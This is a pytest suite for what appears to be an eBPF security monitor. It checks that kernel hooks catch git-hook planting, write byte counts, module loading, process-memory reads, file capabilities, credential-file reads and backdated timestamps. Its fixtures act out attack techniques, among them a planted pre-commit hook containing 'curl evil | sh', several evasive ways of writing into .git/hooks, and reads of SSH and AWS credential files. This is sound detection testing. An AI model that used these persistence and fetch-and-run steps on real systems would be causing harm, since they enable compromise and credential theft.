"""What the new hooks see (issue 12): git hooks planted by every path the kernel resolves,
exact byte totals on every write system call, and the generic hooks (modules through
raw_syscalls, process_vm_readv, /proc/PID/mem, file capabilities)."""

from __future__ import annotations

import os
import textwrap

import pytest

from coi_sentinel.events import model

pytestmark = pytest.mark.bpf

HOOK_VARIANTS = {
    # a relative path after chdir
    "chdir": """
        os.chdir(os.path.join(repo, '.git'))
        with open('hooks/pre-commit', 'w') as f:
            f.write('#!/bin/sh\\ncurl evil | sh\\n')
    """,
    # openat() with a directory fd
    "dirfd": """
        d = os.open(os.path.join(repo, '.git', 'hooks'), os.O_RDONLY | os.O_DIRECTORY)
        fd = os.open('post-checkout', os.O_WRONLY | os.O_CREAT, 0o755, dir_fd=d)
        os.write(fd, b'#!/bin/sh\\n')
        os.close(fd)
    """,
    # a hard link of a file written elsewhere
    "link": """
        os.chdir(repo)
        with open('notes.txt', 'w') as f:
            f.write('#!/bin/sh\\n')
        os.link('notes.txt', '.git/hooks/pre-push')
    """,
    # renameat() with directory fds, from a child that inherited the cwd
    "renameat_dirfd": """
        os.chdir(repo)
        os.rename('.git/hooks', '.git/hooks.orig')
        with open('post-merge', 'w') as f:
            f.write('#!/bin/sh\\n')
        if os.fork() == 0:
            os.mkdir('.git/hooks')
            os.rename('post-merge', 'post-merge', dst_dir_fd=os.open('.git/hooks', os.O_PATH))
            os._exit(0)
        os.wait()
    """,
    # a whole directory renamed onto .git/hooks
    "rename_dir": """
        os.chdir(repo)
        os.rename('.git/hooks', '.git/hooks.orig')
        os.mkdir('staged')
        with open('staged/pre-commit', 'w') as f:
            f.write('#!/bin/sh\\n')
        os.rename('staged', '.git/hooks')
    """,
}


@pytest.mark.parametrize("variant", sorted(HOOK_VARIANTS))
def test_git_hook_planting_raises_the_persistence_alert(watched, py, tmp_path, variant):
    repo = tmp_path / "repo"
    (repo / ".git" / "hooks").mkdir(parents=True)
    code = "import os\nrepo = %r\n" % str(repo) + textwrap.dedent(HOOK_VARIANTS[variant])
    run = watched.run([py, "-c", code], cwd=str(tmp_path))
    assert run.returncode == 0, run.stderr
    hits = [a for a in watched.alerts(run.events) if a.rule == "persistence_git_hook_write"]
    assert hits, [e for e in run.events if isinstance(e, (model.FileOpenEvent, model.LinkEvent,
                                                          model.RenameEvent))]
    ev = hits[0].events[-1]
    path = getattr(ev, "path", None) or getattr(ev, "newpath")
    assert path.startswith(str(repo / ".git" / "hooks"))


def test_byte_totals_are_exact_on_every_write_syscall(watched, py, tmp_path):
    code = textwrap.dedent(f"""
        import mmap, os
        d = {str(tmp_path)!r}
        src = os.path.join(d, 'src')
        with open(src, 'wb') as f:
            f.write(b's' * 4000)
        def target(name):
            return os.open(os.path.join(d, name), os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644)
        fd = target('write'); os.write(fd, b'a' * 101); os.write(fd, b'b' * 7); os.close(fd)
        fd = target('pwrite64'); os.pwrite(fd, b'c' * 211, 0); os.pwrite(fd, b'd' * 13, 500); os.close(fd)
        fd = target('writev'); os.writev(fd, [b'e' * 30, b'f' * 17]); os.close(fd)
        fd = target('pwritev'); os.pwritev(fd, [b'g' * 41, b'h' * 2], 0); os.close(fd)
        fd = target('pwritev2'); os.pwritev(fd, [b'i' * 59], 0, os.RWF_DSYNC); os.close(fd)
        s = os.open(src, os.O_RDONLY)
        fd = target('sendfile'); os.sendfile(fd, s, 0, 1500); os.close(fd)
        fd = target('copy_file_range'); os.copy_file_range(s, fd, 2500, 0); os.close(fd)
        r, w = os.pipe()
        os.write(w, b'j' * 300)
        fd = target('splice'); os.splice(r, fd, 300); os.close(fd)
        fd = target('dup'); fd2 = os.dup(fd); os.close(fd); os.write(fd2, b'k' * 77); os.close(fd2)
        fd = target('dup2'); os.dup2(fd, 9); os.close(fd); os.write(9, b'l' * 5); os.close(9)
        fd = os.open(os.path.join(d, 'mmap'), os.O_RDWR | os.O_CREAT | os.O_TRUNC, 0o644)
        os.ftruncate(fd, 4096)
        m = mmap.mmap(fd, 4096, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE)
        m[:5] = b'mmmmm'; m.close(); os.close(fd)
    """)
    run = watched.run([py, "-c", code])
    assert run.returncode == 0, run.stderr
    expected = {"write": 108, "pwrite64": 224, "writev": 47, "pwritev": 43, "pwritev2": 59,
                "sendfile": 1500, "copy_file_range": 2500, "splice": 300, "dup": 77, "dup2": 5,
                "mmap": 4096}
    got = {name: sum(s.bytes for s in run.of(model.FileWriteEvent, path=str(tmp_path / name)))
           for name in expected}
    assert got == expected
    maps = run.of(model.MmapWriteEvent, path=str(tmp_path / "mmap"))
    assert len(maps) == 1 and maps[0].length == 4096
    assert run.lost == 0                # nothing of this scope lost in the kernel


def test_shell_redirection_bytes_are_counted_on_the_file(watched, tmp_path):
    target = tmp_path / "out.txt"
    run = watched.run(["/bin/sh", "-c", f"echo hello > {target}; echo again >> {target}"])
    assert run.returncode == 0
    sums = run.of(model.FileWriteEvent, path=str(target))
    assert sum(s.bytes for s in sums) == len("hello\nagain\n") == target.stat().st_size


def test_generic_hooks_modules_process_memory_and_file_capabilities(watched, py, tmp_path):
    capfile = tmp_path / "capped"
    capfile.write_text("x")
    code = textwrap.dedent(f"""
        import ctypes, errno, os, struct
        libc = ctypes.CDLL(None, use_errno=True)
        # init_module with an empty image: refused by the kernel (no module support, or not ELF)
        libc.syscall(175 if os.uname().machine == 'x86_64' else 105, None, 0, b'')
        # finit_module(fd 7, params, flags 2): its arguments come from the saved registers
        libc.syscall(313 if os.uname().machine == 'x86_64' else 273, 7, b'coi_param=1', 2)
        # process_vm_readv of our own memory
        buf = ctypes.create_string_buffer(8)
        src = ctypes.create_string_buffer(b'secret!')
        class iovec(ctypes.Structure):
            _fields_ = [('base', ctypes.c_void_p), ('len', ctypes.c_size_t)]
        local = iovec(ctypes.addressof(buf), 8)
        remote = iovec(ctypes.addressof(src), 8)
        libc.process_vm_readv(os.getpid(), ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
        # /proc/self/mem
        with open('/proc/self/mem', 'rb'):
            pass
        # file capabilities: cap_net_raw, VFS_CAP_REVISION_2
        os.setxattr({str(capfile)!r}, 'security.capability',
                    struct.pack('<IIIII', 0x02000001, 1 << 13, 0, 0, 0))
        os.setxattr({str(capfile)!r}, 'user.other', b'x')
    """)
    run = watched.run([py, "-c", code])
    assert run.returncode == 0, run.stderr
    ops = [(e.op, e.pid) for e in run.of(model.PrivEvent)]
    assert ("process_vm_readv", run.pid) in ops
    assert ("proc_mem_open", run.pid) in ops
    caps = run.of(model.PrivEvent, op="set_file_cap")
    assert len(caps) == 1 and caps[0].detail == str(capfile) and caps[0].errno == 0
    mods = run.of(model.PrivEvent, op="init_module")
    assert len(mods) == 1 and mods[0].errno != 0 and mods[0].pid == run.pid
    assert (mods[0].arg0, mods[0].detail) == (0, "")
    fmods = run.of(model.PrivEvent, op="finit_module")
    assert len(fmods) == 1 and fmods[0].errno != 0 and fmods[0].pid == run.pid
    assert (fmods[0].arg0, fmods[0].arg1, fmods[0].detail) == (7, 2, "coi_param=1")
    generic = {h.tracepoint for h in watched.probes.coverage.attached}
    if "syscalls:sys_enter_init_module" not in generic:
        assert "raw_syscalls:sys_enter" in generic


def test_relative_sensitive_read_after_chdir_is_resolved_in_the_kernel(watched, py, tmp_path):
    """The kernel keeps the cwd (chdir) and joins relative paths to it: a sensitive-prefix
    match needs the absolute path, and it is there before user space sees the event."""
    creds = tmp_path / "creds"
    creds.mkdir()
    (creds / "id_ed25519").write_text("k")
    watched.probes.set_sensitive([str(creds) + "/id_"], [])
    try:
        run = watched.run([py, "-c", f"import os\nos.chdir({str(tmp_path)!r})\nos.chdir('creds')\n"
                                     "open('id_ed25519').read()\n"])
    finally:
        watched.probes.set_sensitive([], [])
    assert run.returncode == 0, run.stderr
    opens = run.of(model.FileOpenEvent, kind="sensitive")
    assert [o.path for o in opens] == [str(creds / "id_ed25519")]
    chdirs = [c.path for c in run.of(model.ChdirEvent, pid=run.pid)]
    assert chdirs == [str(tmp_path), str(creds)]


@pytest.mark.parametrize("walker", ["tar", "openat"])
def test_sensitive_read_through_a_walked_directory_fd_is_resolved(watched, py, tmp_path, walker):
    """A tree walker opens each directory without O_DIRECTORY (O_RDONLY|O_NOFOLLOW|O_NONBLOCK,
    as GNU tar does) and the files in it relative to that fd: the kernel joins them, so a
    suffix ('.aws/credentials') matches 'credentials' opened at the fd of '.aws'."""
    home = tmp_path / "home"
    (home / ".aws").mkdir(parents=True)
    (home / ".aws" / "credentials").write_text("[default]\n")
    (home / ".aws" / "config").write_text("[default]\n")
    if walker == "tar":
        argv = ["/bin/sh", "-c", f"tar cf - -C {home} .aws | cat > /dev/null"]
    else:
        argv = [py, "-c", textwrap.dedent(f"""
            import os
            flags = os.O_RDONLY | os.O_NOFOLLOW | os.O_NONBLOCK
            top = os.open({str(home)!r}, os.O_RDONLY | os.O_DIRECTORY)
            d = os.open('.aws', flags, dir_fd=top)
            for name in ('config', 'credentials'):
                os.close(os.open(name, flags, dir_fd=d))
        """)]
    watched.probes.set_sensitive([], [".aws/credentials"])
    try:
        run = watched.run(argv)
    finally:
        watched.probes.set_sensitive([], [])
    assert run.returncode == 0, run.stderr
    opens = run.of(model.FileOpenEvent, kind="sensitive")
    assert [o.path for o in opens] == [str(home / ".aws" / "credentials")]


def test_chosen_file_times_are_reported_unless_the_setter_wrote_the_file(watched, py, tmp_path):
    """touch -d and os.utime on a file the caller did not write: EVT_UTIME with the times; touch
    (now), cp -p and a program setting times on what it just wrote: nothing."""
    old = 1577836800        # 2020-01-01
    (tmp_path / "implant").write_text("x")
    (tmp_path / "src").write_text("y")
    os.utime(tmp_path / "src", (old, old))
    script = (f"cd {tmp_path} && touch implant && touch -d 2020-01-01T00:00:00Z implant && "
              f"cp -p src copy && {py} -c \"import os; os.utime('implant', (1, {old})); "
              f"open('own', 'w').write('z'); os.utime('own', ({old}, {old}))\"")
    run = watched.run(["/bin/sh", "-c", script])
    assert run.returncode == 0, run.stderr
    got = sorted((u.atime, u.mtime, u.path, u.backdated, u.errno, u.comm == "touch")
                 for u in run.of(model.UtimeEvent))
    implant = str(tmp_path / "implant")
    assert got == [(1, old, implant, True, 0, False), (old, old, implant, True, 0, True)]
    assert run.lost == 0                # nothing of this scope lost in the kernel


def test_bytes_sent_on_an_accepted_socket_are_counted(watched, py, tmp_path):
    """An accepted socket carries the fd state of a connected one: its bytes are counted."""
    import socket
    import threading
    import time

    portfile = tmp_path / "port"
    script = textwrap.dedent(f"""
        import socket
        srv = socket.socket()
        srv.bind(('127.0.0.1', 0))
        srv.listen(1)
        open({str(portfile)!r}, 'w').write(str(srv.getsockname()[1]))
        conn, _ = srv.accept()
        for i in range(7):
            conn.send(b'y' * 100)
        conn.close()
    """)
    got: list[int] = []

    def client() -> None:
        deadline = time.monotonic() + 20
        while time.monotonic() < deadline:
            port = portfile.read_text() if portfile.exists() else ""
            if port:
                with socket.create_connection(("127.0.0.1", int(port))) as c:
                    data = b""
                    while chunk := c.recv(4096):
                        data += chunk
                got.append(len(data))
                return
            time.sleep(0.02)

    t = threading.Thread(target=client)
    t.start()
    try:
        run = watched.run([py, "-c", script])
    finally:
        t.join(timeout=25)
    assert run.returncode == 0, run.stderr
    assert got == [700]
    accepts = run.of(model.AcceptEvent, pid=run.pid)
    assert len(accepts) == 1 and accepts[0].daddr == "127.0.0.1" and accepts[0].fd >= 0
    sent = [s for s in run.of(model.NetSendEvent, pid=run.pid) if s.fd == accepts[0].fd]
    assert sum(s.bytes for s in sent) == 700 and sum(s.calls for s in sent) == 7
